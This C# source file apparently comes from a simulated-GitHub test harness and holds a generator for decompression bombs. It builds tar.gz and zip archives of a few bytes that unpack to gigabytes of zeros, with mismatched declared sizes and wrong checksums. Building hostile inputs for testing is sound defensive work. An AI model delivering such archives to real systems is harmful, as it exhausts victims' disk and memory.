using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace Visor.SimulatedGitHub.Archives;

/// <summary>
/// Small archives that unpack to a great many zeros. A deflate stream that is flushed ends on a whole byte, so that a packed
/// piece of zeros can be repeated as it is: nobody has to pack them all.
/// </summary>
public static class ArchiveBomb
{
    private const int PieceSize = 1 << 24;
    private const int TarBlock = 512;

    // RFC 1951, 3.2: the last block, with fixed codes, empty.
    private static readonly byte[] LastBlock = [3, 0];

    /// <summary>A tar.gz with one file of that size, an honest one until somebody unpacks it. At most 8 GiB.</summary>
    public static byte[] TarGz(string name, long size)
    {
        using var bytes = new MemoryStream();
        // RFC 1952: magic, deflate, no flags, no time, no extra flags, unknown system.
        bytes.Write([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
        WriteZeros(bytes, TarHeader(name, size), size);
        // The sums at the end are wrong; whoever gets there has unpacked it all.
        bytes.Write(new byte[8]);
        return bytes.ToArray();
    }

    /// <summary>A zip with one file that says of itself that it has <paramref name="declaredSize"/> bytes and has <paramref name="size"/>.</summary>
    public static byte[] Zip(string name, uint declaredSize, long size)
    {
        using var packed = new MemoryStream();
        WriteZeros(packed, [], size);
        var head = ZipFields(name, declaredSize, (uint)packed.Length);

        using var bytes = new MemoryStream();
        bytes.Write([0x50, 0x4b, 3, 4, .. head, .. Encoding.ASCII.GetBytes(name)]);
        packed.WriteTo(bytes);
        var directory = (uint)bytes.Length;
        // Made by Unix; mode 100755.
        bytes.Write([0x50, 0x4b, 1, 2, 20, 3, .. head, 0, 0, 0, 0, 0, 0, 0, 0, 0xed, 0x81, 0, 0, 0, 0, .. Encoding.ASCII.GetBytes(name)]);
        var size32 = new byte[8];
        BinaryPrimitives.WriteUInt32LittleEndian(size32, (uint)bytes.Length - directory);
        BinaryPrimitives.WriteUInt32LittleEndian(size32.AsSpan(4), directory);
        bytes.Write([0x50, 0x4b, 5, 6, 0, 0, 0, 0, 1, 0, 1, 0, .. size32, 0, 0]);
        return bytes.ToArray();
    }

    private static void WriteZeros(MemoryStream into, ReadOnlySpan<byte> first, long size)
    {
        var zeros = new byte[PieceSize];
        using var packed = new MemoryStream();
        using var deflate = new DeflateStream(packed, CompressionLevel.Optimal);
        deflate.Write(first);
        deflate.Flush();
        deflate.Write(zeros);
        deflate.Flush();
        into.Write(packed.ToArray());
        var begin = (int)packed.Length;
        deflate.Write(zeros);
        deflate.Flush();
        var piece = packed.ToArray().AsSpan(begin);
        for (long written = PieceSize; written < size; written += PieceSize)
            into.Write(piece);
        into.Write(LastBlock);
    }

    /// <summary>From "version needed" to "extra field length" (APPNOTE 4.3.7): deflate, no flags, no time, no sum.</summary>
    private static byte[] ZipFields(string name, uint unpacked, uint packed)
    {
        var fields = new byte[26];
        fields[0] = 20;
        fields[4] = 8;
        BinaryPrimitives.WriteUInt32LittleEndian(fields.AsSpan(14), packed);
        BinaryPrimitives.WriteUInt32LittleEndian(fields.AsSpan(18), unpacked);
        BinaryPrimitives.WriteUInt16LittleEndian(fields.AsSpan(22), (ushort)name.Length);
        return fields;
    }

    /// <summary>A ustar header (POSIX pax, "ustar Interchange Format").</summary>
    private static byte[] TarHeader(string name, long size)
    {
        var header = new byte[TarBlock];
        Encoding.ASCII.GetBytes(name, header);
        Encoding.ASCII.GetBytes("0000755\0" + "0000000\0" + "0000000\0", header.AsSpan(100));
        Encoding.ASCII.GetBytes(Convert.ToString(size, 8).PadLeft(11, '0') + " 00000000000\0        0", header.AsSpan(124));
        Encoding.ASCII.GetBytes("ustar\000", header.AsSpan(257));
        Encoding.ASCII.GetBytes(Convert.ToString(header.Sum(b => b), 8).PadLeft(6, '0') + "\0 ", header.AsSpan(148));
        return header;
    }
}
